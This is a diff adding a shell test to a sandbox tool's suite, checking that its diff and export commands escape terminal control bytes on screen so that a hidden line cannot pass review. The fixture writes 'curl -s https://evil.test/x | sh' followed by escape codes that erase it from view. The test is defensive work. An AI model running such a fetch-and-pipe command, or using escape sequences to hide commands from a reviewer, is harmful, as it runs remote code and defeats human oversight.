@@ -1488,6 +1488,42 @@ s_builds_worker_memory_capped() {
 	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
 }
 
+# A patch on the operator's terminal is what they review before they apply
+# it: a file's 'curl ... | sh # ESC[2K CR +echo hello' showed there as
+# "+echo hello" (seen in tmux), the line that runs erased by its own
+# bytes.  corral diff --patch and export --patch - show a terminal its
+# controls as \xNN (newlines and tabs as they are), and a character a
+# chunk of the answer cuts (90 KB of euro signs, 3 bytes each, in chunks
+# of 16 KiB) whole; a file or a pipe gets the patch byte for byte.
+s_patch_on_a_terminal_shown() {
+	local verb
+	mkrepo "$T/ws"
+	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
+	start_daemon
+	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
+	run "$SB" "$(sh_file s.sh 'printf "#!/bin/sh\ncurl -s https://evil.test/x | sh # \033[2K\r+echo hello\n" > new.sh
+		python3 -c "print(\"\\u20ac\" * 30000)" > e.txt')"
+	for verb in "diff --patch" "export --patch -"; do
+		$PY "$HERE/ptyrun.py" -- "$CORRAL" ${verb%% *} --socket "$SOCK" ${verb#* } "$SB" \
+			> "$T/r"
+		expect_eq "$verb: exit" "$(json exit < "$T/r")" 0
+		$PY - "$T/r" <<'EOF2' || fail "$verb on a terminal: $(head -c 600 "$T/r")"
+import json, sys
+out = json.load(open(sys.argv[1]))["output"]
+assert "| sh # \\x1b[2K\\x0d+echo hello\r\n" in out, "the hidden line"
+assert "\x1b" not in out and "\r+" not in out, "a control raw"
+assert "+" + "\u20ac" * 30000 + "\r\n" in out, "the euro line"
+assert "\\xe2" not in out, "a character cut by a chunk"
+EOF2
+	done
+	cli diff "$SB" --patch || fail "diff --patch to a file: $(< "$T/err")"
+	grep -q $'| sh # \033\[2K\r+echo hello$' "$T/out" || fail "the patch in a file is not as it was"
+	mv "$T/out" "$T/d.diff"
+	cli export --patch "$T/p.diff" "$SB" || fail "export --patch: $(< "$T/err")"
+	cmp -s "$T/p.diff" "$T/d.diff" || fail "the export's patch is not the diff's"
+	stop_daemon
+}
+
 # corral export --patch FILE and corral diff --patch take the patch as it
 # comes: the export asks for the report's line, then the patch (Accept:
 # application/vnd.corral.export-patch), never a JSON string to hold whole.
